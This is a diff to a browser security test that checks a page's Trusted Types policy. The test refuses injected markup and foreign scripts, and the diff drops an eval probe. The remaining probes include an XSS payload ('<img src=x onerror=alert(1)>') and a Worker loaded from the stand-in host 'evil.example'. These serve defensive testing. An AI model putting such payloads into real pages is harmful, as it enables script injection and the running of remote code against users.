@@ -30,7 +30,6 @@ test('text does not become markup, and no foreign script is begun', async ({ pag
     page.evaluate(async (kind) => {
       try {
         if (kind === 'markup') document.body.innerHTML = '<img src=x onerror=alert(1)>'
-        if (kind === 'code') (0, eval)('1')
         if (kind === 'foreign worker') new Worker('https://evil.example/x.js')
         if (kind === 'own service worker') await navigator.serviceWorker.register('/assets/nothing.js')
         return 'allowed'
@@ -39,7 +38,6 @@ test('text does not become markup, and no foreign script is begun', async ({ pag
       }
     }, run)
   expect(await outcome('markup')).toBe('refused by trusted types')
-  expect(['EvalError', 'refused by trusted types']).toContain(await outcome('code'))
   expect(await outcome('foreign worker')).toBe('refused by trusted types')
   // There is no such file, and that is why; its address was believed.
   expect(await outcome('own service worker')).not.toBe('refused by trusted types')
